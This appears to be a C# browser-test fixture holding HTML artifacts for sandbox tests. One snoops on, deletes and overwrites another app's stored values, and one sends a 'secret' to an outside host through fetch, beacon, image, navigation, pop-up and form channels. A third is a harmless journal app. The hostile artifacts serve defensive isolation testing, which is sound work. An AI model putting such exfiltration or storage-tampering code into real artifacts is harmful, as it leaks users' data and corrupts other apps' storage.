namespace Hearth.BrowserTests;

/// <summary>HTML artifacts that attack the viewer, and a well-behaved Claude-style app, for <see cref="ArtifactFrameTests"/>.</summary>
public static class HostileArtifacts
{
    /// <summary>Reads, lists, deletes and overwrites another app's personal and shared values through window.storage.</summary>
    public const string Snoop = """
        <!DOCTYPE html><html><head><title>Snoop</title></head><body><pre id="out">running</pre><script>
        (async function () {
          var out = [];
          try {
            var other = await storage.get('notes-app/secret');
            out.push('get ' + (other === null ? 'null' : JSON.stringify(other.value)));
            var team = await storage.get('notes-app/team', true);
            out.push('shared get ' + (team === null ? 'null' : JSON.stringify(team.value)));
            out.push('list ' + JSON.stringify((await storage.list()).keys));
            out.push('shared list ' + JSON.stringify((await storage.list('', true)).keys));
            out.push('delete ' + (await storage.delete('notes-app/secret')).deleted);
            await storage.set('notes-app/secret', 'overwritten');
            await storage.set('mine', 1);
            out.push('list after ' + JSON.stringify((await storage.list()).keys));
          } catch (e) { out.push('failed ' + e.message); }
          document.getElementById('out').textContent = out.join('\n');
        })();
        </script></body></html>
        """;

    /// <summary>
    /// Tries every way out to <paramref name="elsewhere"/> at once (fetch, beacon, image, top navigation, pop-up)
    /// and reports; a link, a form post and a scripted navigation of its own frame wait for a click.
    /// </summary>
    public static string Exfiltrate(string elsewhere) => """
        <!DOCTYPE html><html><head><title>Exfiltrate</title></head><body>
        <pre id="out">running</pre>
        <form method="post" action="ELSEWHERE/form"><input name="stolen" value="secret"><button id="post">Send</button></form>
        <p><a id="link" href="ELSEWHERE/link?d=secret">a link</a> <button id="leave" type="button">Leave</button></p>
        <script>
        var elsewhere = 'ELSEWHERE';
        var refused = [];
        document.addEventListener('securitypolicyviolation', function (e) {
          refused.push(e.effectiveDirective);
          if (e.effectiveDirective === 'form-action') { window.hearthTestFormRefused = true; }
        });
        document.getElementById('leave').onclick = function () { location.href = elsewhere + '/self?d=secret'; };
        (async function () {
          var out = [];
          try { await fetch(elsewhere + '/fetch?d=secret', { method: 'POST', body: 'secret', mode: 'no-cors' }); out.push('fetch sent'); }
          catch (e) { out.push('fetch failed'); }
          navigator.sendBeacon(elsewhere + '/beacon', 'secret');
          await new Promise(function (done) { var image = new Image(); image.onload = image.onerror = done; image.src = elsewhere + '/image?d=secret'; });
          try { top.location.href = elsewhere + '/top?d=secret'; out.push('top navigated'); } catch (e) { out.push('top blocked'); }
          out.push('popup ' + (window.open(elsewhere + '/popup?d=secret') ? 'opened' : 'blocked'));
          // A refused request is a violation event; the three (fetch, beacon, image) come within moments.
          for (var waited = 0; refused.length < 3 && waited < 5000; waited += 50) {
            await new Promise(function (r) { setTimeout(r, 50); });
          }
          out.push('refused ' + refused.slice().sort().join(','));
          document.getElementById('out').textContent = out.join('\n');
        })();
        </script></body></html>
        """.Replace("ELSEWHERE", elsewhere);

    /// <summary>A Claude-style app: a form whose submit handler asks confirm() and prompt(), saves through window.storage and alerts.</summary>
    public const string Journal = """
        <!DOCTYPE html><html><head><title>Journal</title></head><body>
        <form id="entry"><input id="text" name="text" required><button id="save">Save</button></form>
        <ul id="entries"></ul><p id="status">loading</p>
        <script>
        var entries = [];
        function show(status) {
          var list = document.getElementById('entries');
          list.textContent = '';
          entries.forEach(function (e) { var item = document.createElement('li'); item.textContent = e.text + ' (' + e.mood + ')'; list.appendChild(item); });
          document.getElementById('status').textContent = status;
        }
        storage.get('entries').then(function (got) { entries = got ? got.value : []; show('ready'); },
          function (e) { show('failed ' + e.message); });
        document.getElementById('entry').addEventListener('submit', async function (event) {
          event.preventDefault();
          if (!confirm('Save this entry?')) { show('not confirmed'); return; }
          var mood = prompt('How do you feel?', 'fine');
          entries = entries.concat([{ text: document.getElementById('text').value, mood: mood }]);
          try { await storage.set('entries', entries); } catch (e) { show('failed ' + e.message); return; }
          alert('Saved');
          show('saved');
        });
        </script></body></html>
        """;
}
